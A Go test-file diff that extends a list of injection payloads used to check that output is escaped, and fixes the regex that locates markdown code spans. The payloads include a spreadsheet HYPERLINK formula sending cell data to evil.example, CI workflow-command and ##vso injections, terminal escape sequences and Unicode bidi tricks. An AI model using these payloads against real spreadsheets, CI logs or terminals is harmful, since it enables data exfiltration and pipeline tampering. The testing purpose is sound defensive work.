@@ -21,7 +21,7 @@ var payloads = []string{
 	`=HYPERLINK("http://evil.example/?"&A1,"open")`,
 	"+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "x;=1+1", `x; "=1+1`,
 	"\x1b[2J\x1b]0;owned\a", "\u009b31m", "\x00\x7f",
-	"::error file=a.go,line=1::owned", "\n::add-mask::x", "x\n  ::stop-commands::token", "##[error]owned", "a ##vso[task.setvariable variable=x]y",
+	"::error file=a.go,line=1::owned", "\n::add-mask::x", "x\n  ::stop-commands::token", "a::\xff", "\xff::\xc3(", "##[error]owned", "a ##vso[task.setvariable variable=x]y",
 	"[click](http://evil.example)", "![x](http://evil.example/x.png)", "<http://evil.example>", "http://evil.example/a", "www.evil.example",
 	"@everyone #1 evil/repo#2", "`code` ``more``", "| a | b |", "{0} {1}", "[x](1)", `back\slash\`, "*bold* _it_ ~~gone~~ $x$",
 	"12\u202e43", "\u2066isolate\u2069", "1\u200b2", "\ufeffmark", "soft\u00adhyphen", "tag\U000E0041", "line\u2028break\u2029",
@@ -117,9 +117,9 @@ func TestPayloadsInMarkdown(t *testing.T) {
 				}
 				fence := rest[at[2]:at[3]]
 				outside.WriteString(rest[:at[2]])
-				end := regexp.MustCompile("[^`]" + fence + "(?:[^`]|$)").FindStringIndex(rest[at[3]:])
+				end := regexp.MustCompile("[^`](" + fence + ")(?:[^`]|$)").FindStringSubmatchIndex(rest[at[3]:])
 				require.NotNil(t, end, "%q: a code span ends where it begins: %s", p, line)
-				rest = rest[at[3]+end[0]+1+len(fence):]
+				rest = rest[at[3]+end[3]:]
 			}
 			prose := regexp.MustCompile(`\\.`).ReplaceAllString(outside.String(), "")
 			assert.NotRegexp(t, `[<>\[\]@|{}$]|http:|www\.|javascript:|evil/|#1`, prose, "%q: %s", p, line)
